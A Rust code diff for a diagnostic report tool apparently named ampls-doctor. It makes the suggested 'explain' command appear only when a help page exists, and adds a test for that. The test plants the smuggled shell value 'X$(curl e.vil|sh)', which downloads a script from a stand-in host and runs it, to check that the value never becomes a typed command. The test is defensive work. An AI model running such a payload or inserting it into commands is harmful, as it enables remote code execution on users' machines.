@@ -7,7 +7,7 @@ use crate::diagnose::facts::Route;
 use crate::diagnose::finding::{Argument, Severity};
 use crate::diagnose::rules;
 use crate::render::page::{Page, Style, Tint};
-use crate::render::words::severity;
+use crate::render::words::{explain, severity};
 use crate::report::digest::Code;
 use crate::report::{Digest, Health};
 
@@ -50,7 +50,9 @@ pub fn repeat_for_people(digest: &Digest, status: u8, style: Style, out: &mut dy
         if !explained.is_empty() {
             page.wrapped(Tint::Plain, "  also  ", "        ", &format!("explains {}", explained.join(", ")))?;
         }
-        page.line(Tint::Plain, &format!("  more  ampls-doctor explain {}", root.code))?;
+        if let Some(command) = explain(&root.code) {
+            page.line(Tint::Plain, &format!("  more  {command}"))?;
+        }
     }
     page.blank()?;
     let full = "For commands that are filled in, the evidence and every endpoint, run";
@@ -157,6 +159,14 @@ mod tests {
     fn every_rule_says_how_to_fix_it() {
         assert!(rules::RULES.iter().all(|rule| !how_to_fix(rule.code).is_empty()));
         assert!(how_to_fix("ZZZ999").is_empty());
+    }
+
+    #[test]
+    fn no_code_of_a_digest_becomes_a_line_to_be_typed_unless_it_has_a_page() {
+        let mut digest = digest(&compact(&mixed()));
+        digest.codes[0].code = "X$(curl e.vil|sh)".to_owned();
+        let people = again(&digest).1;
+        assert!(people.contains("X$(curl") && !people.contains("doctor explain"), "{people}");
     }
 
     #[test]
